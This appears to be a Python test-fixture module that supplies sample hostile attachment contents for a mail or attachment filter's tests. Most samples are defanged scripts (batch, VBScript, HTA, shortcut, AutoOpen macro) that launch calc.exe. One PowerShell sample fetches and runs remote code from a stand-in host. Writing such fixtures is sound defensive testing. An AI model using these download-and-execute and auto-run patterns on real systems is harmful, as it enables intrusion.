"""Owns what hostile messages carry: real programs of this machine, and scripts that do little harm."""

from __future__ import annotations

import functools
import importlib.util
import struct
from pathlib import Path

BATCH = b"@echo off\r\nstart calc.exe\r\n"
VBSCRIPT = (
    b'Option Explicit\r\nDim shell\r\nSet shell = CreateObject("WScript.Shell")\r\n'
    b'shell.Run "calc.exe", 0, False\r\nWScript.Quit 0\r\n'
)
JSCRIPT = (
    b'var shell = new ActiveXObject("WScript.Shell");\r\nvar dir = shell.ExpandEnvironmentStrings("%TEMP%");\r\n'
    b'shell.Run("calc.exe", 0, false);\r\nWScript.Quit(0);\r\n'
)
POWERSHELL = (
    b"param([string]$Path = $env:TEMP)\r\nSet-StrictMode -Version Latest\r\n"
    b"$client = New-Object System.Net.WebClient\r\n"
    b"Invoke-Expression $client.DownloadString('http://files.invalid/a')\r\nStart-Process calc.exe\r\n"
)
HTA = (
    b'<html><head><title>Invoice</title><HTA:APPLICATION ID="a" WINDOWSTATE="minimize"/></head><body>'
    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc.exe"</script></body></html>\r\n'
)
WSF = (
    b'<job id="a"><script language="JScript"><![CDATA[new ActiveXObject("WScript.Shell").Run("calc.exe");]]>'
    b"</script></job>\r\n"
)
SHELL = b"#!/bin/sh\nexec /usr/bin/true\n"
SHORTCUT = (
    b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"
    + struct.pack("<IIQQQIIIHHII", 0x81 | 0x20, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0)
    + struct.pack("<H", 20)
    + "/c start calc.exe...".encode("utf-16-le")
    + bytes(4)
)
URL = b"[InternetShortcut]\r\nURL=file://files.invalid/share/setup.exe\r\nIconIndex=1\r\n"
MACRO = b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "calc.exe", 0\r\nEnd Sub\r\n'


@functools.cache
def windows_program() -> bytes:
    """A real Windows program (PE32+): the launcher that setuptools ships, about 14 kB."""
    return _of_package("setuptools", "cli-64.exe")


@functools.cache
def windows_program_32() -> bytes:
    """A real Windows program (PE32), about 12 kB."""
    return _of_package("setuptools", "cli-32.exe")


@functools.cache
def linux_program() -> bytes:
    """A real ELF program of this machine."""
    return Path("/bin/true").read_bytes()


def dos_program() -> bytes:
    """A DOS program with the smallest of MZ headers: no PE header follows."""
    return b"MZ" + struct.pack("<13H", 40, 1, 0, 2, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x1C, 0) + b"\xb4\x4c\xcd\x21" * 3


def mac_program() -> bytes:
    """The head of a 64-bit Mach-O program with one empty segment."""
    segment = struct.pack("<II16sQQQQIIII", 0x19, 72, b"__PAGEZERO", 0, 1 << 32, 0, 0, 0, 0, 0, 0)
    return struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 1, 72, 0x85, 0) + segment + bytes(4096)


def java_class() -> bytes:
    """The head of a Java class file."""
    return b"\xca\xfe\xba\xbe\0\0\0\x34\0\x0a" + b"\x07\0\x02\x01\0\x04Main\x07\0\x04\x01\0\x10java/lang/Object"


def _of_package(package: str, name: str) -> bytes:
    found = importlib.util.find_spec(package)
    if found is None or found.origin is None:
        raise LookupError(f"the package {package} is not installed; tests/setup.sh test brings it")
    return (Path(found.origin).parent / name).read_bytes()
